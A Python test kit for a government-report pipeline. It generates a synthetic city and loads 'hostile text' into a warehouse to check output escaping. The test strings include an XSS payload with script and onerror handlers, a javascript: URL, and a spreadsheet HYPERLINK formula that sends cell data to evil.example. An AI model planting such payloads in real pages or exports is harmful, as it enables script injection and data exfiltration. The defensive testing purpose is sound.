"""Report test kit: a small generated city run through the real stage functions (fetch from a local
portal, parse, validate with GX, load, cross-year) without Airflow, and a warehouse of hostile text.

The city: 13 organs (the city government, 6 departments, one district with its government and 5
departments) × 2020-2022 (so both templates, v2019 and v2021), seed 2 with a 30 % defect rate: reports in
HTML, PDF, DOCX and text, a missing report, a scanned one (quarantined), late publication, copied
columns and stale totals (hard-rule failures). About 20 s on 2 cores; parsed once per session.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

CITY = "yunlan"
DISTRICT = "yunlan-d01"
YEARS = (2020, 2021, 2022)
YEAR = 2022


@dataclass
class CityRun:
    city_dir: Path
    manifest: Any
    run: dict[str, Any]
    validated: list[dict[str, Any]]


@contextlib.contextmanager
def warehouse_env(url: str):
    old = os.environ.get("OGI_WAREHOUSE_URL")
    os.environ["OGI_WAREHOUSE_URL"] = url
    try:
        yield
    finally:
        if old is None:
            os.environ.pop("OGI_WAREHOUSE_URL", None)
        else:
            os.environ["OGI_WAREHOUSE_URL"] = old


def query(url: str, sql: str, **params) -> list[dict[str, Any]]:
    """Rows of plain SQL on a warehouse (the tests' independent side)."""
    import sqlalchemy as sa

    engine = sa.create_engine(url)
    with engine.connect() as c:
        rows = [dict(r._mapping) for r in c.execute(sa.text(sql), params)]
    engine.dispose()
    return rows


def city_run(tmp: Path) -> CityRun:
    """Generate the city and fetch, parse and validate every organ-year (nothing loaded yet)."""
    from ogi import pipeline
    from ogi_dev.portal import serve_portal
    from ogi_dev.synth.city import generate_city

    city_dir = tmp / CITY
    manifest = generate_city(city_dir, organs=13, years=YEARS, seed=2, defect_rate=0.3)
    with serve_portal(city_dir / "portal") as portal:
        params = {"registry": str(city_dir / "registry.yaml"), "via": portal.base_url, "years": list(YEARS),
                  "batch_size": 50}  # fmt: skip
        run = pipeline.plan_run(params, None, run_id=f"report-test-{uuid.uuid4().hex[:8]}")
        validated = []
        for batch in run["batches"]:
            fetched = pipeline.fetch_batch(run, batch)
            validated.append(pipeline.validate_batch(run, pipeline.parse_batch(run, fetched)))
    return CityRun(city_dir, manifest, run, validated)


def load_city(url: str, city: CityRun) -> dict[str, Any]:
    """Load the validated city into the warehouse at ``url`` (as the DAG's load and cross_year do)."""
    from ogi import pipeline

    with warehouse_env(url):
        loaded = pipeline.load(city.run, city.validated)
        return pipeline.cross_year(city.run, loaded)


# ----------------------------------------------------------------------------- hostile text

#: a payload that would run script, load an image and set a flag if it ever became markup
PAYLOAD = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">'


def hostile(label: str) -> str:
    return f"{label}{PAYLOAD}&amp;\u2028</script>"


def load_hostile(url: str) -> dict[str, str]:
    """A city whose names, title, printed text and parser warning carry markup; one report fails a hard
    rule (so it is listed with its organ, title and URL). Returns the hostile strings by place."""
    from ogi.fetch.registry import Organ, Region, Registry
    from ogi.model import ERROR, FAILED, PASSED, CellSource, ParsedReport, Report, RuleResult, sha256_hex
    from ogi.templates import CellRef, expected_version
    from ogi.warehouse.db import get_engine, upgrade
    from ogi.warehouse.load import LoadItem, RunInfo, load_batch
    from ogi.warehouse.registry_sync import sync_registry
    from ogi_dev.samples import random_report

    s = {
        "city": hostile("恶意市"),
        "district": hostile("恶意区"),
        "organ": hostile("机关"),
        "organ2": hostile("另一机关"),
        "title": hostile("标题"),
        "printed_organ": hostile("署名"),
        "raw": hostile("印刷"),
        "warning": '=HYPERLINK("http://evil.example/?"&A1,"x")' + hostile("警告：表二 not found near label"),
        "url": "javascript:window.__xss=3//" + PAYLOAD,
    }
    regions = (Region("evil", s["city"], "city"), Region("evil-d1", s["district"], "district", "evil"))
    organs = (
        Organ("evil-a", s["organ"], "evil", "department"),
        Organ("evil-b", s["organ2"], "evil-d1", "government"),
    )
    engine = get_engine(url)
    upgrade(engine)
    sync_registry(engine, Registry("evil", s["city"], regions, organs, ()))
    items = []
    for i, (oid, version, year) in enumerate((("evil-a", "v2021", 2022), ("evil-b", "v2021", 2022),
                                               ("evil-a", "v2021", 2021))):  # fmt: skip
        rep: Report = random_report(100 + i, version, organ=s["printed_organ"])
        rep.year, rep.title = year, s["title"]
        rep.published_on = f"{year + 1}-01-15"
        for col in rep.table3["granted"]:
            rep.table3["granted"][col] = 12 if col == "total" else 2  # total 12 ≠ 6 × 2: T3-H3 fails
        rep.table3["total_processed"]["total"] = 40
        prov = {CellRef(3, "granted", "total"): CellSource(s["raw"], "number", 1, 5, 8)}
        parsed = ParsedReport(rep, "html", version, expected_version(year), provenance=prov,
                              warnings=[s["warning"]], status="partial" if i == 1 else "parsed")  # fmt: skip
        key = f"{oid}/{year}"
        results = (
            RuleResult(key, "T3-H3", ERROR, FAILED, "t3.granted.*", 12.0, 12.0 if i else 6.0,
                       tuple(f"t3.granted.{c}" for c in rep.table3["granted"]), False, f"detail {PAYLOAD}"),
            RuleResult(key, "T3-H1", ERROR, PASSED, "t3.*.total", 1.0, 1.0, (), False, ""),
        )  # fmt: skip
        items.append(
            LoadItem(oid, year, parsed, s["url"], sha256_hex(f"{oid}{year}".encode()),
                     dt.datetime(2026, 2, 1, tzinfo=dt.UTC), results)
        )  # fmt: skip
    load_batch(engine, items, run=RunInfo("hostile-run"))
    engine.dispose()
    return s
